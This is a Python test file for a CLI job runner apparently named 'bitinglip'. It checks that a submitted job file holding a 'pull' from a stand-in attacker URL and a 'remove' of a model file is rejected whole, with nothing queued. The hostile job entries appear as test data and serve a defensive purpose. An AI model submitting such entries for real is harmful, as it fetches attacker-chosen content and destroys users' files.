"""A job file someone hands you: only work runs (echo, generate, chat, embed), as a real process.

A line that would pull from a URL of the file's choosing or remove a model file is refused with
one line naming the file and the line, and nothing of the file is queued.
"""

from __future__ import annotations

from pathlib import Path

from tests.cli.conftest import MODEL, Proc, stderr_lines, write_jsonl


def test_a_hostile_job_file_is_refused_and_queues_nothing(proc: Proc, tmp_path: Path) -> None:
    victim = tmp_path / "models" / "precious.gguf"
    victim.parent.mkdir()
    victim.write_bytes(b"GGUF weights")
    path = write_jsonl(
        tmp_path / "handed-to-me.jsonl",
        {"kind": "echo", "payload": {"n": 1}},
        {"kind": "generate", "model": MODEL, "prompt": "hello"},
        {"kind": "pull", "payload": {"url": "http://attacker.invalid/x", "dest": str(victim)}},
        {"kind": "remove", "payload": {"dest": str(victim)}},
    )
    proc.ok("status")  # the database exists before, so "nothing queued" is checked on it
    done = proc("jobs", "submit", path)
    assert done.returncode == 2, done.stderr
    assert done.stdout == ""
    (line,) = stderr_lines(done.stderr)
    assert line.startswith(f"bitinglip: {path}:3: kind must be one of echo, generate, chat, embed")
    assert "not 'pull'" in line and "bitinglip models" in line
    assert set(proc.json("status")["tasks"].values()) == {0}
    assert proc.json("jobs", "ls") == []
    assert victim.read_bytes() == b"GGUF weights"
